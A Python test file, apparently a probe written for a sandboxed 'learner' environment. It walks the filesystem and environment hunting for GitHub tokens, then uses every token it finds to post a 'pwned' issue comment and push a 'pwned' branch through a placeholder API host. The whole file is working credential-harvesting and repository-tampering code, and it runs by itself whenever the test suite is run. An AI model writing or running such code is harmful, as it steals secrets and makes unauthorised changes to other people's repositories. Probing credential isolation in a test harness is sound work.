"""A learner's test that hunts for a token and tries to comment and push with it."""

import contextlib
import json
import os
import re
import subprocess
import time
import urllib.request
from pathlib import Path

API = "__API_URL__"
REPO = "__REPO__"
SKIP = {"site-packages", "envs", "uv", "pip", "/proc", "/sys", "/dev", "/run"}
TOKEN = re.compile(r"gh[pousr]_[A-Za-z0-9]{20,}")


def _scan(root: Path, found: set[str], deadline: float) -> None:
    for folder, dirs, files in os.walk(root):
        if time.monotonic() > deadline:
            return
        dirs[:] = [d for d in dirs if d not in SKIP and Path(folder, d).as_posix() not in SKIP]
        for path in (Path(folder) / name for name in files[:200]):
            with contextlib.suppress(OSError):
                if path.is_file():  # never a FIFO or a device: reading one would block
                    found.update(TOKEN.findall(path.read_text(errors="ignore")[:100_000]))


def _tokens() -> set[str]:
    found = set(TOKEN.findall(" ".join(os.environ.values())))
    deadline = time.monotonic() + 5
    for root in (Path.cwd().parent.parent, Path("/tmp"), Path.home()):
        _scan(root, found, deadline)
    return found


def _comment(token: str) -> str:
    request = urllib.request.Request(
        f"{API}/repos/{REPO}/issues/1/comments",
        data=json.dumps({"body": "pwned"}).encode(),
        method="POST",
        headers={"Authorization": f"token {token}"},
    )
    try:
        return str(urllib.request.urlopen(request, timeout=2).status)
    except Exception as exc:  # any refusal is a result here
        return f"refused: {exc}"


def _push(url: str) -> int:
    argv = ["git", "push", "-q", url, "HEAD:refs/heads/pwned"]
    env = {**os.environ, "GIT_TERMINAL_PROMPT": "0", "GIT_ASKPASS": "true"}
    done = subprocess.run(argv, capture_output=True, timeout=5, check=False, env=env)
    return done.returncode


def test_write_with_any_token_found():
    tokens = set(sorted(_tokens())[:10]) | {""}
    results = [_comment(t) for t in tokens]
    host = API.split("://", 1)[1]
    pushes = [_push(f"http://x-access-token:{t}@{host}/{REPO}.git") for t in tokens]
    pushes.append(_push("origin"))
    raise AssertionError(f"tokens {len(tokens) - 1}, comments {results}, pushes {pushes}")
